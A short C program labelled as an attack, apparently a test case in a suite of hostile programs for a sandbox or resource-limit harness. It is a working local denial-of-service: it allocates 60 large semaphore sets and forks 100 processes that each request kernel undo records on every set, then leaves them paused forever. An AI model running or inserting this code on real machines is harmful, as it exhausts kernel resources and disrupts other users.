/*
 * Attack: has the kernel remember for each process and set what is to be undone
 * Ends: exit 0 or history or deadline
 */
#include "hostile.h"

#include <sys/sem.h>
#include <sys/wait.h>

enum {
    SETS = 60,
    SEMAPHORES = 1000,
    PROCESSES = 100
};

int main(void)
{
    int sets[SETS];
    struct sembuf up = {0, 1, SEM_UNDO};
    for (int i = 0; i < SETS; i++)
        sets[i] = semget(IPC_PRIVATE, SEMAPHORES, IPC_CREAT | 0600);
    for (int i = 0; i < PROCESSES; i++)
        if (fork() == 0) {
            for (int j = 0; j < SETS; j++)
                semop(sets[j], &up, 1);
            for (;;)
                pause();
        }
    usleep(200000);
    return EXIT_SUCCESS;
}
